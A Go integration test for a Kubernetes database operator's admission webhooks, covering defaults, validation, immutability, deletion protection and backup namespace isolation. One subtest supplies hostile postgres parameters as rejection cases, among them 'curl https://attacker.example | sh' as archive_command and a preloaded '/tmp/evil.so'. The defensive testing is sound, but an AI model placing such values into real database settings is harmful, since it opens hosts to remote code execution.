package v1alpha1_test

import (
	"bytes"
	"cmp"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	clientgoscheme "k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"
	ctrl "sigs.k8s.io/controller-runtime"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/envtest"
	metricsserver "sigs.k8s.io/controller-runtime/pkg/metrics/server"
	"sigs.k8s.io/controller-runtime/pkg/webhook"

	dbv1 "github.com/dbkeeper/dbkeeper/api/v1alpha1"
	"github.com/dbkeeper/dbkeeper/internal/rules"
	"github.com/dbkeeper/dbkeeper/internal/test/testenv"
	webhooks "github.com/dbkeeper/dbkeeper/webhooks/v1alpha1"
)

// singleReplicaWarning is the warning of a postgres Database created with
// one replica.
const singleReplicaWarning = "spec.replicas is 1: there is no standby to fail over to; the database is unavailable whenever its pod restarts or its node fails"

// warnings collects the warnings the API server returns to a client.
type warnings struct {
	mu   sync.Mutex
	seen []string
}

func (w *warnings) HandleWarningHeaderWithContext(_ context.Context, _ int, _ string, text string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.seen = append(w.seen, text)
}

func (w *warnings) take() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	out := w.seen
	w.seen = nil
	return out
}

// TestAdmission serves the webhooks over TLS, registers them with the
// generated webhook manifests, and lets the real kube-apiserver call them.
func TestAdmission(t *testing.T) {
	env := &envtest.Environment{WebhookInstallOptions: envtest.WebhookInstallOptions{
		Paths: []string{filepath.Join(testenv.ProjectRoot(), "config", "webhook", "manifests.yaml")},
	}}
	cfg := testenv.Start(t, env)

	scheme := runtime.NewScheme()
	if err := clientgoscheme.AddToScheme(scheme); err != nil {
		t.Fatal(err)
	}
	if err := dbv1.AddToScheme(scheme); err != nil {
		t.Fatal(err)
	}
	opts := env.WebhookInstallOptions
	mgr, err := ctrl.NewManager(cfg, ctrl.Options{
		Scheme:  scheme,
		Metrics: metricsserver.Options{BindAddress: "0"},
		WebhookServer: webhook.NewServer(webhook.Options{
			Host: opts.LocalServingHost, Port: opts.LocalServingPort, CertDir: opts.LocalServingCertDir,
			TLSOpts: []func(*tls.Config){func(c *tls.Config) { c.MinVersion = tls.VersionTLS12 }},
		}),
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := webhooks.SetupWebhookWithManager(mgr, rules.Rules{}); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		if err := mgr.Start(ctx); err != nil {
			t.Errorf("manager: %v", err)
		}
	}()
	t.Cleanup(func() { cancel(); <-done })
	waitForServing(t, fmt.Sprintf("%s:%d", opts.LocalServingHost, opts.LocalServingPort))

	seen := &warnings{}
	warnCfg := rest.CopyConfig(cfg)
	warnCfg.WarningHandlerWithContext = seen
	c, err := client.New(warnCfg, client.Options{Scheme: scheme})
	if err != nil {
		t.Fatal(err)
	}
	bg := context.Background()

	t.Run("a minimal Database is stored with every default", func(t *testing.T) {
		db := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "minimal", Namespace: "default"}}
		if err := c.Create(bg, db); err != nil {
			t.Fatal(err)
		}
		got := &dbv1.Database{}
		if err := c.Get(bg, client.ObjectKeyFromObject(db), got); err != nil {
			t.Fatal(err)
		}
		s := got.Spec
		if s.Engine != dbv1.EnginePostgres || s.Version != "17" || s.Image != "docker.io/library/postgres:17.6" ||
			ptr.Deref(s.Replicas, 0) != 1 || s.Storage.Size == nil || s.Storage.Size.String() != "1Gi" ||
			s.DatabaseName != "app" || s.Username != "app" || ptr.Deref(s.Port, 0) != 5432 || s.DeletionPolicy != dbv1.DeletionPolicyRetain ||
			s.Resources.Requests.Cpu().String() != "100m" || s.Resources.Requests.Memory().String() != "256Mi" ||
			s.FailoverTimeout == nil || s.FailoverTimeout.Duration != 30*time.Second {
			t.Errorf("defaults not stored: %+v", s)
		}
		if w := seen.take(); !slices.Equal(w, []string{singleReplicaWarning}) {
			t.Errorf("warnings = %q, want only %q", w, singleReplicaWarning)
		}
	})

	t.Run("a mysql Database gets mysql defaults", func(t *testing.T) {
		db := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "my", Namespace: "default"}, Spec: dbv1.DatabaseSpec{Engine: dbv1.EngineMySQL}}
		if err := c.Create(bg, db); err != nil {
			t.Fatal(err)
		}
		if db.Spec.Version != "8.4" || ptr.Deref(db.Spec.Port, 0) != 3306 || db.Spec.Image != "docker.io/library/mysql:8.4.6" {
			t.Errorf("mysql defaults: %+v", db.Spec)
		}
	})

	t.Run("an invalid create is rejected with every cause at once", func(t *testing.T) {
		db := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "broken", Namespace: "default"},
			Spec: dbv1.DatabaseSpec{Engine: dbv1.EnginePostgres, Version: "12", Image: "postgres:latest",
				DatabaseName: "postgres", Username: "1admin", Parameters: map[string]string{"port": "6543"}}}
		err := c.Create(bg, db)
		if !apierrors.IsInvalid(err) {
			t.Fatalf("want Invalid, got %v", err)
		}
		var status apierrors.APIStatus
		if !errors.As(err, &status) {
			t.Fatalf("not an API status: %v", err)
		}
		fields := map[string]bool{}
		for _, cause := range status.Status().Details.Causes {
			fields[cause.Field] = true
		}
		for _, want := range []string{"spec.version", "spec.image", "spec.databaseName", "spec.username", "spec.parameters[port]"} {
			if !fields[want] {
				t.Errorf("no cause for %s in %v", want, err)
			}
		}
	})

	t.Run("parameters that run commands, name files, load code or weaken security are refused, each on its field", func(t *testing.T) {
		dangerous := map[string]string{
			"archive_command": "sh -c id", "archive_cleanup_command": "sh -c id", "recovery_end_command": "sh -c id",
			"ssl_passphrase_command": "sh -c id", "config_file": "/tmp/x", "log_directory": "/etc", "krb_server_keyfile": "/tmp/k",
			"shared_preload_libraries": "/tmp/evil.so", "dynamic_library_path": "/tmp", "ssl_min_protocol_version": "TLSv1",
			"ssl_ciphers": "ALL:eNULL", "password_encryption": "md5", "basebackup_to_shell.command": "sh -c id",
		}
		db := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "shell", Namespace: "default"}, Spec: dbv1.DatabaseSpec{Parameters: dangerous}}
		err := c.Create(bg, db)
		var status apierrors.APIStatus
		if !apierrors.IsInvalid(err) || !errors.As(err, &status) {
			t.Fatalf("want Invalid, got %v", err)
		}
		fields := map[string]bool{}
		for _, cause := range status.Status().Details.Causes {
			fields[cause.Field] = true
		}
		for key := range dangerous {
			if !fields["spec.parameters["+key+"]"] {
				t.Errorf("no cause for spec.parameters[%s] in %v", key, err)
			}
		}
		if len(fields) != len(dangerous) {
			t.Errorf("causes on %v, want one per parameter", fields)
		}

		// Added to a Database that exists: refused too.
		ok := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "tuned", Namespace: "default"},
			Spec: dbv1.DatabaseSpec{Parameters: map[string]string{"shared_preload_libraries": "pg_stat_statements", "pg_stat_statements.max": "10000"}}}
		if err := c.Create(bg, ok); err != nil {
			t.Fatal(err)
		}
		ok.Spec.Parameters["archive_command"] = "curl https://attacker.example | sh"
		err = c.Update(bg, ok)
		if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "spec.parameters[archive_command]: Forbidden: archive_command is owned by dbkeeper for WAL archiving") ||
			!strings.Contains(err.Error(), "set spec.backup") {
			t.Errorf("adding archive_command: %v, want it refused naming spec.parameters[archive_command] and spec.backup", err)
		}
	})

	t.Run("immutable fields, shrinking and downgrades are forbidden on update", func(t *testing.T) {
		size := resource.MustParse("10Gi")
		base := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "orders", Namespace: "default"},
			Spec: dbv1.DatabaseSpec{Engine: dbv1.EngineMySQL, Version: "8.4",
				Storage: dbv1.StorageSpec{Size: &size, StorageClassName: ptr.To("fast")}}}
		if err := c.Create(bg, base); err != nil {
			t.Fatal(err)
		}
		tests := map[string]struct {
			change func(*dbv1.Database)
			field  string
		}{
			"storage may not shrink":            {func(d *dbv1.Database) { d.Spec.Storage.Size = ptr.To(resource.MustParse("5Gi")) }, "spec.storage.size"},
			"the engine is immutable":           {func(d *dbv1.Database) { d.Spec.Engine = dbv1.EnginePostgres; d.Spec.Version = "17"; d.Spec.Image = "" }, "spec.engine"},
			"the database name is immutable":    {func(d *dbv1.Database) { d.Spec.DatabaseName = "other" }, "spec.databaseName"},
			"the storage class is immutable":    {func(d *dbv1.Database) { d.Spec.Storage.StorageClassName = ptr.To("slow") }, "spec.storageClassName"},
			"the major version may not go down": {func(d *dbv1.Database) { d.Spec.Version = "8.0"; d.Spec.Image = "" }, "spec.version"},
		}
		for name, tt := range tests {
			t.Run(name, func(t *testing.T) {
				db := &dbv1.Database{}
				if err := c.Get(bg, client.ObjectKeyFromObject(base), db); err != nil {
					t.Fatal(err)
				}
				tt.change(db)
				err := c.Update(bg, db)
				if !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "Forbidden") || !strings.Contains(err.Error(), strings.TrimPrefix(tt.field, "spec.")) {
					t.Errorf("want Forbidden on %s, got %v", tt.field, err)
				}
			})
		}
		t.Run("growing storage and a minor image bump pass, with the restart warning", func(t *testing.T) {
			db := &dbv1.Database{}
			if err := c.Get(bg, client.ObjectKeyFromObject(base), db); err != nil {
				t.Fatal(err)
			}
			seen.take()
			db.Spec.Storage.Size = ptr.To(resource.MustParse("20Gi"))
			db.Spec.Image = "docker.io/library/mysql:8.4.7"
			if err := c.Update(bg, db); err != nil {
				t.Fatal(err)
			}
			if w := strings.Join(seen.take(), "\n"); !containsAll(w, "restarts the only pod of StatefulSet orders") {
				t.Errorf("warnings = %q, want the restart warning", w)
			}
		})
	})

	t.Run("spec.backup is stored with its defaults, and the bootstrap may not change", func(t *testing.T) {
		store := dbv1.ObjectStore{
			Endpoint: "https://store:7070", Bucket: "backups",
			CredentialsSecret: dbv1.SecretReference{Name: "store-credentials"},
			CASecret:          &dbv1.SecretKeyReference{Name: "store-ca"},
		}
		// The source, with backups since 03:00:12 (no controller runs
		// here: the status stays as written).
		src := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "ledger-old", Namespace: "default"},
			Spec: dbv1.DatabaseSpec{Backup: &dbv1.BackupConfiguration{ObjectStore: store}}}
		if err := c.Create(bg, src); err != nil {
			t.Fatal(err)
		}
		src.Status.Backup = &dbv1.DatabaseBackupStatus{FirstRecoverabilityPoint: &metav1.Time{Time: time.Date(2026, 12, 4, 3, 0, 12, 0, time.UTC)}}
		if err := c.Status().Update(bg, src); err != nil {
			t.Fatal(err)
		}
		seen.take()
		db := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "ledger", Namespace: "default"},
			Spec: dbv1.DatabaseSpec{
				Backup:    &dbv1.BackupConfiguration{ObjectStore: store, Schedule: "0 3 * * *", Retention: "7d"},
				Bootstrap: &dbv1.BootstrapSpec{Recovery: &dbv1.RecoverySpec{Source: dbv1.RecoverySource{Database: "ledger-old"}}},
			}}
		if err := c.Create(bg, db); err != nil {
			t.Fatal(err)
		}
		b := db.Spec.Backup
		if b.ObjectStore.Path != "default" || b.WALCompression != dbv1.WALCompressionGzip || b.ObjectStore.CASecret.Key != "ca.crt" {
			t.Errorf("backup defaults not stored: %+v", b)
		}
		// The Secrets it names do not exist: warned of, not refused.
		if w := strings.Join(seen.take(), "\n"); !containsAll(w,
			`spec.backup.objectStore.credentialsSecret.name: no Secret "store-credentials" in namespace default: the pods wait for it`,
			`spec.backup.objectStore.caSecret.name: no Secret "store-ca" in namespace default: the pods wait for it`) {
			t.Errorf("warnings = %q, want one per missing Secret", w)
		}
		db.Spec.Bootstrap.Recovery.TargetLSN = "0/7000028"
		err := c.Update(bg, db)
		if want := `admission webhook "mdatabase.dbkeeper.io" denied the request: Database.dbkeeper.io "ledger" is invalid: spec.bootstrap: Forbidden: field is immutable: a Database is bootstrapped once, when it is created`; err == nil || err.Error() != want {
			t.Errorf("changing the bootstrap: %v, want %s", err, want)
		}
	})

	t.Run("another namespace's backups may be neither written nor restored", func(t *testing.T) {
		store := dbv1.ObjectStore{Endpoint: "https://store:7070", Bucket: "backups", Path: "bank/ledger",
			CredentialsSecret: dbv1.SecretReference{Name: "store-credentials"}}
		thief := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "thief", Namespace: "default"},
			Spec: dbv1.DatabaseSpec{Bootstrap: &dbv1.BootstrapSpec{Recovery: &dbv1.RecoverySpec{
				Source: dbv1.RecoverySource{ObjectStore: &store, ServerName: "ledger"}}}}}
		err := c.Create(bg, thief)
		if want := `spec.bootstrap.recovery.source.objectStore.path: Invalid value: "bank/ledger": must be the Database's namespace "default" or lie under it (default/…)`; !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), want) {
			t.Errorf("a restore from another namespace's directory: %v, want %s", err, want)
		}
		vandal := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "vandal", Namespace: "default"},
			Spec: dbv1.DatabaseSpec{Backup: &dbv1.BackupConfiguration{ObjectStore: store}}}
		err = c.Create(bg, vandal)
		if want := `spec.backup.objectStore.path: Invalid value: "bank/ledger": must be the Database's namespace "default" or lie under it (default/…)`; !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), want) {
			t.Errorf("archiving into another namespace's directory: %v, want %s", err, want)
		}
	})

	t.Run("a Backup is defaulted to an immediate checkpoint, and its spec is immutable", func(t *testing.T) {
		b := &dbv1.Backup{ObjectMeta: metav1.ObjectMeta{Name: "ledger-1", Namespace: "default"}, Spec: dbv1.BackupSpec{Database: "ledger"}}
		if err := c.Create(bg, b); err != nil {
			t.Fatal(err)
		}
		if !ptr.Deref(b.Spec.ImmediateCheckpoint, false) {
			t.Errorf("immediateCheckpoint = %v, want true", b.Spec.ImmediateCheckpoint)
		}
		b.Spec.Database = "orders"
		err := c.Update(bg, b)
		if want := `admission webhook "mbackup.dbkeeper.io" denied the request: Backup.dbkeeper.io "ledger-1" is invalid: spec: Forbidden: is immutable: a Backup records one base backup; create another Backup`; err == nil || err.Error() != want {
			t.Errorf("changing a Backup's spec: %v, want %s", err, want)
		}
	})

	t.Run("delete is refused while deletionProtection is true", func(t *testing.T) {
		db := &dbv1.Database{ObjectMeta: metav1.ObjectMeta{Name: "protected", Namespace: "default"},
			Spec: dbv1.DatabaseSpec{DeletionProtection: true}}
		if err := c.Create(bg, db); err != nil {
			t.Fatal(err)
		}
		err := c.Delete(bg, db)
		if err == nil || !strings.Contains(err.Error(), "deletionProtection") {
			t.Fatalf("delete of a protected Database: %v", err)
		}
		db.Spec.DeletionProtection = false
		if err := c.Update(bg, db); err != nil {
			t.Fatal(err)
		}
		if err := c.Delete(bg, db); err != nil {
			t.Errorf("delete after unprotecting: %v", err)
		}
	})

	t.Run("kubectl shows every problem at once, and the warnings", func(t *testing.T) {
		path := testenv.AdminKubeconfig(t, env)
		samples := filepath.Join(testenv.ProjectRoot(), "config", "samples")
		tests := []struct {
			sample         string
			stdout, stderr string
			fails          bool
			namespace      string // "": default
		}{
			{
				sample: "invalid/many-errors.yaml",
				fails:  true,
				stderr: `The Database "broken" is invalid: 
* spec.version: Unsupported value: "12": supported values: "14", "15", "16", "17", "18"
* spec.image: Invalid value: "postgres:latest": must not use the tag "latest", which moves: pods restarted at different times would run different versions; name a version, e.g. docker.io/library/postgres:17.6
* spec.replicas: Invalid value: 10: must be at most 9 for postgres: one primary and at most 8 streaming standbys: max_wal_senders and max_replication_slots stay at PostgreSQL's default of 10 (parameters dbkeeper owns), for 8 standbys, a base backup in progress and one spare
* spec.databaseName: Invalid value: "postgres": is reserved by postgres
* spec.username: Invalid value: "1admin": must start with a lowercase letter or '_' and contain only lowercase letters, digits and '_'
* spec.parameters[port]: Forbidden: port is set by dbkeeper; set spec.port instead
`,
			},
			{
				// Values the schema refuses (replicas, port) and values
				// only dbkeeper's rules refuse (image, size): one answer.
				sample: "invalid/schema-and-rules.yaml",
				fails:  true,
				stderr: `The Database "everything" is invalid: 
* spec.image: Invalid value: "postgres:latest": must not use the tag "latest", which moves: pods restarted at different times would run different versions; name a version, e.g. docker.io/library/postgres:17.6
* spec.replicas: Invalid value: -1: must be at least 1
* spec.storage.size: Invalid value: "-5Gi": must be greater than zero
* spec.port: Invalid value: 70000: must be between 1024 and 65535, inclusive
`,
			},
			{
				sample: "invalid/malformed-quantities.yaml",
				fails:  true,
				stderr: `The Database "sizes" is invalid: 
* spec.storage.size: Invalid value: "10 gigs": must be a quantity such as 10Gi or 1Ti
* spec.resources.requests[cpu]: Invalid value: "half": must be a quantity such as 500m or 2
* spec.username: Invalid value: "1admin": must start with a lowercase letter or '_' and contain only lowercase letters, digits and '_'
`,
			},
			{
				// A plain http store, a missing Secret reference, a cron
				// schedule of four fields, a retention in hours, a target
				// time that is not RFC 3339, and a source without backups
				// (the mysql Database orders of an earlier subtest).
				sample: "invalid/backup.yaml",
				fails:  true,
				stderr: `The Database "restored" is invalid: 
* spec.backup.objectStore.endpoint: Invalid value: "http://object-store.devcluster.svc:9000": must be an https URL, https://HOST[:PORT]: the credentials and the data must not cross the network in clear
* spec.backup.objectStore.credentialsSecret.name: Required value: name the Secret with the store's credentials, in the keys accessKeyID and secretAccessKey
* spec.backup.schedule: Invalid value: "0 3 * *": must be a cron schedule of five fields (minute hour day-of-month month day-of-week), such as "0 3 * * *", or a macro such as @daily: expected exactly 5 fields, found 4: [0 3 * *]
* spec.backup.retention: Invalid value: "48h": must be a number of days or weeks from 1 to 9999, such as 7d or 4w
* spec.bootstrap.recovery.targetTime: Invalid value: "2026-12-04 06:57": must be an RFC 3339 time, such as 2026-12-04T06:57:37Z
* spec.bootstrap.recovery.source.database: Invalid value: "orders": has no spec.backup, so no backups to restore
`,
			},
			{
				// An issuer without a name, of a kind and a group
				// dbkeeper does not know.
				sample: "invalid/tls.yaml",
				fails:  true,
				stderr: `The Database "secured" is invalid: 
* spec.tls.issuerRef.name: Required value: name the cert-manager Issuer or ClusterIssuer that signs the server's certificate, or remove issuerRef for a CA dbkeeper runs for the Database
* spec.tls.issuerRef.kind: Unsupported value: "VaultIssuer": supported values: "Issuer", "ClusterIssuer": dbkeeper makes a cert-manager Certificate, which names an Issuer of its namespace or a ClusterIssuer
* spec.tls.issuerRef.group: Unsupported value: "certmanager.step.sm": supported values: "cert-manager.io": dbkeeper asks cert-manager for the certificate, and knows no issuer of another group
`,
			},
			{
				sample: "invalid/tls-mysql.yaml",
				fails:  true,
				stderr: `The Database "catalog-tls" is invalid: spec.tls: Forbidden: TLS settings are supported for postgres only: remove spec.tls for mysql
`,
			},
			{
				// More standbys than the Database has, and the parameters
				// synchronous replication owns.
				sample: "invalid/synchronous.yaml",
				fails:  true,
				stderr: `The Database "ledger-sync" is invalid: 
* spec.parameters[synchronous_standby_names]: Forbidden: synchronous_standby_names is owned by dbkeeper for replication; set spec.synchronous.standbys instead, which waits for that many of the other pods
* spec.parameters[synchronous_commit]: Forbidden: synchronous_commit "off" acknowledges a commit before spec.synchronous.standbys standbys have it on disk, so a failover could lose it: remove the key (dbkeeper keeps synchronous_commit on), set it to on or remote_apply, or remove spec.synchronous
* spec.synchronous.standbys: Invalid value: 3: must be between 1 and spec.replicas - 1 (2), the number of standbys a commit can wait for: set it in that range, raise spec.replicas, or remove spec.synchronous
`,
			},
			{
				sample: "invalid/backup-object.yaml",
				fails:  true,
				stderr: `The Backup "orders-manual" is invalid: spec.database: Required value: name the Database to back up
`,
			},
			{
				// Looked up at admission: the source's first recoverable
				// point (status.backup) and a source that does not exist.
				sample: "testdata:restore-too-early.yaml",
				fails:  true,
				stderr: `Error from server (Invalid): error when creating "testdata/restore-too-early.yaml": admission webhook "mdatabase.dbkeeper.io" denied the request: Database.dbkeeper.io "ledger-before" is invalid: spec.bootstrap.recovery.targetTime: Invalid value: "2026-12-04T02:59:00Z": is before 2026-12-04T03:00:12Z, the first moment the backups of ledger-old can restore to: choose that time or a later one
Error from server (Invalid): error when creating "testdata/restore-too-early.yaml": admission webhook "mdatabase.dbkeeper.io" denied the request: Database.dbkeeper.io "ledger-gone" is invalid: spec.bootstrap.recovery.source.database: Invalid value: "ledger-gone-old": no Database of that name in namespace default: to restore the backups of a Database that was deleted, set source.objectStore and source.serverName (its name) instead
`,
			},
			{
				// devcluster's object store, as its Service and Secrets
				// name it (internal/test/devcluster realnode_objectstore.go),
				// in a namespace of its own: default has a ledger.
				sample:    "postgres-backup.yaml",
				namespace: "samples-backup",
				stdout:    "database.dbkeeper.io/ledger created\nbackup.dbkeeper.io/ledger-manual created\n",
				// The store's Secrets are devcluster's: not in this
				// namespace, which admission warns of.
				stderr: "Warning: spec.replicas is 1: there is no standby to fail over to; the database is unavailable whenever its pod restarts or its node fails\n" +
					"Warning: spec.backup.objectStore.credentialsSecret.name: no Secret \"object-store-credentials\" in namespace samples-backup: the pods wait for it\n" +
					"Warning: spec.backup.objectStore.caSecret.name: no Secret \"object-store-ca\" in namespace samples-backup: the pods wait for it\n",
			},
			{
				sample: "mysql.yaml",
				stdout: "database.dbkeeper.io/catalog created\n",
				stderr: "Warning: spec.deletionPolicy is Delete: the PersistentVolumeClaims and all data are deleted with the Database\n",
			},
		}
		for _, tt := range tests {
			t.Run(tt.sample, func(t *testing.T) {
				file := filepath.Join(samples, tt.sample)
				if name, ok := strings.CutPrefix(tt.sample, "testdata:"); ok {
					file = filepath.Join("testdata", name)
				}
				ns := cmp.Or(tt.namespace, "default")
				if ns != "default" {
					if out, errOut, err := kubectl(path, "create", "namespace", ns); err != nil {
						t.Fatalf("kubectl create namespace %s: %v\n%s%s", ns, err, out, errOut)
					}
				}
				stdout, stderr, err := kubectl(path, "-n", ns, "apply", "-f", file)
				t.Logf("kubectl apply -f config/samples/%s\nstdout:\n%s\nstderr:\n%s", tt.sample, stdout, stderr)
				if (err != nil) != tt.fails {
					t.Errorf("kubectl apply: %v, want failure %v", err, tt.fails)
				}
				if stdout != tt.stdout {
					t.Errorf("stdout:\n%s\nwant:\n%s", stdout, tt.stdout)
				}
				if stderr != tt.stderr {
					t.Errorf("stderr:\n%s\nwant:\n%s", stderr, tt.stderr)
				}
			})
		}
	})
}

// kubectl runs the pinned kubectl against kubeconfig and returns its
// standard output and standard error apart.
func kubectl(kubeconfig string, args ...string) (stdout, stderr string, err error) {
	var out, errOut bytes.Buffer
	cmd := exec.Command(filepath.Join(testenv.BinDir(), "kubectl"), append([]string{"--kubeconfig", kubeconfig}, args...)...)
	cmd.Stdout, cmd.Stderr = &out, &errOut
	err = cmd.Run()
	return out.String(), errOut.String(), err
}

func containsAll(s string, parts ...string) bool {
	for _, p := range parts {
		if !strings.Contains(s, p) {
			return false
		}
	}
	return true
}

// waitForServing waits until the webhook server accepts TLS connections.
func waitForServing(t *testing.T, addr string) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		conn, err := tls.DialWithDialer(&net.Dialer{Timeout: time.Second}, "tcp", addr, &tls.Config{InsecureSkipVerify: true}) //nolint:gosec // only probing that the server is up
		if err == nil {
			_ = conn.Close()
			return
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("the webhook server at %s did not start", addr)
}
